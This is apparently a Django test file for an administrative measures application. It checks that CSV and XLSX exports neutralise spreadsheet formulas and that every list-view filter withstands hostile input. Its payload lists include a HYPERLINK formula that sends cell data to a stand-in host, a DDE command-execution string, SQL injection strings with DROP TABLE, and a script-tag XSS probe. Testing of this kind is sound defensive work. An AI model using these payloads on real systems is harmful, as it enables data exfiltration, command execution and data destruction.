"""Injection: spreadsheet formulas in exports, SQL metacharacters and overlong values in
every filter parameter of every list view (found from the URL patterns: every view with a
`filterset_class`, plus the exports of the same namespace, which take the same query)."""

from __future__ import annotations

import csv
import io

from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from massnahmen.models import Massnahme
from tests.factories import MassnahmeFactory

from .conftest import matrix_zeilen

FORMELN = [
    '=HYPERLINK("https://boese.example.invalid/?d="&A1;"klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]

BOESE_WERTE = [
    "' OR 1=1 --",
    "'; DROP TABLE massnahmen_massnahme; --",
    '") OR ("1"="1',
    "%",
    "_",
    "\\",
    "\x00",
    "a\x00b",
    "x" * 10_000,
    "9" * 40,
    "-1",
    "1e309",
    "NaN",
    "😀" * 50,
    "\u202e\ufeff",
    "[]",
    "<script>alert(1)</script>",
]


def test_exports_neutralise_formulas(lage):
    welt = lage.welt
    for formel in FORMELN:
        MassnahmeFactory(
            kreis=welt.lippe,
            federfuehrend=welt.detmold,
            handlungsfeld=welt.handlungsfeld,
            titel=formel,
            beschreibung=formel,
        )
    client = lage.client("kreis")
    text = b"".join(client.get("/massnahmen/export.csv")).decode("utf-8-sig")
    zellen = [zelle for zeile in csv.reader(io.StringIO(text), delimiter=";") for zelle in zeile]
    for formel in FORMELN:
        assert f"'{formel}" in zellen, formel
    assert not [z for z in zellen if z[:1] in ("=", "+", "@", "\t", "\r")]

    blatt = load_workbook(io.BytesIO(b"".join(client.get("/massnahmen/export.xlsx")))).active
    for zeile in blatt.iter_rows():
        for zelle in zeile:
            assert zelle.data_type != "f", zelle.value  # no cell is a formula
    werte = {c.value for row in blatt.iter_rows() for c in row}
    # Stored as a string cell (never a formula), with or without a visible quote.
    assert FORMELN[0] in werte or f"'{FORMELN[0]}" in werte


def _listen(resolver=None, prefix: str = "", namespace: str = ""):
    """(url name, filterset class) of every view with a `filterset_class`, and the export
    views of the same namespace with that filterset."""
    gefunden: dict[str, type] = {}
    exporte: dict[str, list[str]] = {}
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            sub = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            for name, fs in _listen(entry, prefix, sub):
                gefunden[name] = fs
        elif isinstance(entry, URLPattern) and entry.name:
            view_class = getattr(entry.callback, "view_class", None)
            filterset = getattr(view_class, "filterset_class", None)
            if filterset is not None:
                gefunden[f"{namespace}{entry.name}"] = filterset
            elif entry.name.startswith("export"):
                exporte.setdefault(namespace, []).append(f"{namespace}{entry.name}")
    for name, filterset in list(gefunden.items()):
        ns = name.rpartition(":")[0] + ":" if ":" in name else ""
        for export in exporte.get(ns, []):
            gefunden[export] = filterset
    return list(gefunden.items())


def test_every_filter_parameter_survives_hostile_values(lage):
    listen = dict(_listen())
    assert {"massnahmen:liste", "massnahmen:export_csv", "foerderung:liste"} <= set(listen)
    pfade = {name.split(" (")[0]: lage.path(path) for name, path, _ in matrix_zeilen()}
    client = lage.client("kreis")
    befunde, anfragen = [], 0
    for name, filterset in listen.items():
        path = pfade[name].split("?")[0]
        parameter = [*filterset.base_filters, "sortierung", "seite", "kreis"]
        # All parameters at once: django-filter applies every field that is valid on its
        # own, so one request per value runs each filter with it (one request per parameter
        # and value took a minute).
        for wert in BOESE_WERTE:
            response = client.get(path, dict.fromkeys(parameter, wert))
            anfragen += 1
            if response.status_code >= 500:
                befunde.append(f"{path} mit {wert[:20]!r}: {response.status_code}")
    assert anfragen > 80
    assert not befunde, "\n".join(befunde)
    # The data is still there: no metacharacter reached the database as SQL.
    assert Massnahme.objects.filter(pk=lage.welt.massnahme.pk).exists()
